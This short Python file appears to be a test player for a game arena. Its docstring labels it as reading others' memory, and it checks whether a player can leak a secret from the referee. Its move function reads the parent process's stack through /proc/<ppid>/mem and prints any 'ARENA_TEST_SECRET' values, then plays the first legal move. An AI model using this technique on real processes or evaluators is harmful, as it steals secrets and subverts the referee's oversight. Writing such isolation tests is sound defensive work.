"""Searches the stack of its parent process, which may be the referee, for a secret.

kind: memory of others
proof: leaked
control: yes, given ptrace
expect: plays
"""

import os
import re
from contextlib import suppress


def move(position):
    with suppress(Exception):
        folder = f"/proc/{os.getppid()}"
        with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", buffering=0) as memory:
            stack = next(line for line in maps if "[stack]" in line)
            start, end = (int(part, 16) for part in stack.split()[0].split("-"))
            memory.seek(start)
            print(re.findall(rb"ARENA_TEST_SECRET=\w+", memory.read(end - start)))
    return position.legal_moves[0]
